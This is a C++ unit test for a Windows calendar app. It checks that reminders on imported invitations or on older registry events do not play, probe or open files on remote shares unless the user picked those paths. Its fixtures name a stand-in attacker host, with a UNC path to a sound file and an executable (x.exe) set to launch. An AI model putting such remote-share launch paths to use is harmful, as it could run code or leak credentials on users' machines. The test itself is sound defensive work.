// An invitation from someone else, imported from a file into the Windows
// registry, reaches its reminder: nothing of what it names on another
// computer is looked at, played or opened. The probe stands where the
// actions would reach the file system.
#include <windows.h>

#include <gtest/gtest.h>

#include <fstream>
#include <string>
#include <vector>

#include "app/ical_exchange.h"
#include "core/calendar.h"
#include "reminder/reminder_scheduler.h"
#include "portable/store_fakes.h"
#include "store/registry_paths.h"
#include "win32/scratch_hive.h"

namespace {

struct FileSystemProbe final : ReminderActions {
    void PlaySoundFile(const std::string& path) override { calls.push_back("play " + path); }
    bool FileExists(const std::string& path) override {
        calls.push_back("find " + path);
        return true;
    }
    void OpenFile(const std::string& path) override { calls.push_back("open " + path); }
    std::vector<std::string> calls;
};

struct NoTimer final : ReminderTimer {
    void Set(std::uint32_t) override {}
    void Kill() override {}
};

struct NoWindow final : UpcomingLink {
    bool IsOpen() const override { return false; }
    void Open() override {}
    void Send(std::uintptr_t, PendingReminder*) override {}
};

// The frame's store and scheduler, over the scratch hive, at the reminder's minute.
struct Frame {
    explicit Frame(Registry& registry) : store(registry, clock, scheduler, notifier) { store.LoadEvents(); }
    SettableClock clock{MakeLocalTime(2026, 3, 10, 8, 56, 0)};
    Preferences prefs;
    NoTimer timer;
    FileSystemProbe probe;
    NoWindow window;
    RecordingNotifier notifier;
    ReminderScheduler scheduler{store, prefs, clock, timer, probe, window};
    EventStore store;
};

TEST(ForeignFiles, NoReminderTouchesAPathFromAnotherComputer) {
    ScratchHive hive;
    char temp[MAX_PATH] = {};
    GetTempPathA(MAX_PATH, temp);
    const std::string file = std::string(temp) + "orv_invitation_" + std::to_string(GetCurrentProcessId()) + ".ics";
    std::ofstream(file, std::ios::binary)
        << "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Test//Fixture//EN\r\nBEGIN:VEVENT\r\nUID:inv@example.com\r\n"
           "DTSTART:20260310T090000\r\nSUMMARY:Invitation\r\n"
           "X-ORV-LAUNCHFILE;X-ORV-LAUNCH=TRUE:C:\\\\windows\\\\notepad.exe\r\n"
           "BEGIN:VALARM\r\nACTION:AUDIO\r\nTRIGGER:-PT5M\r\nATTACH:file://attacker.example/share/chime.wav\r\n"
           "END:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
    {
        Frame frame(hive.registry());
        const ExchangeOutcome outcome = ImportCalendarFile(file, frame.store, hive.registry(), frame.clock);
        EXPECT_EQ(outcome.code, kExchangeOk) << outcome.message;
        // Its reminder time has come: the save's check fires it at once, with the system's sound.
        EXPECT_EQ(frame.probe.calls, std::vector<std::string>{"play "});
    }
    DeleteFileA(file.c_str());

    // An event an older version imported, both actions on, network paths, no mark of the user's choice.
    const std::string key = std::string(kEventsKeyPath) + "\\1";
    RegKey event = RegKey::Create(hive.registry(), key, RegAccess::All);
    const std::uint8_t bothOn[] = {3, 0, 5, 0};
    ASSERT_TRUE(event.WriteBinary("priv", bothOn, sizeof bothOn));
    ASSERT_TRUE(event.WriteString("soundfile", "\\\\attacker.example\\share\\chime.wav"));
    ASSERT_TRUE(event.WriteString("launchfile", "\\\\attacker.example\\share\\x.exe"));
    ASSERT_TRUE(event.DeleteValue("fileschosen"));
    event.Close();
    {
        Frame frame(hive.registry());
        ASSERT_NE(frame.store.FindEvent(1), nullptr);
        EXPECT_EQ(frame.probe.calls, std::vector<std::string>{"play "});
    }

    // The same paths picked by the user in the editor are the user's to use.
    ASSERT_TRUE(RegKey::Create(hive.registry(), key, RegAccess::All).WriteDword("fileschosen", 1));
    Frame frame(hive.registry());
    EXPECT_EQ(frame.probe.calls, (std::vector<std::string>{"play \\\\attacker.example\\share\\chime.wav",
                                                           "find \\\\attacker.example\\share\\x.exe",
                                                           "open \\\\attacker.example\\share\\x.exe"}));
}

}  // namespace
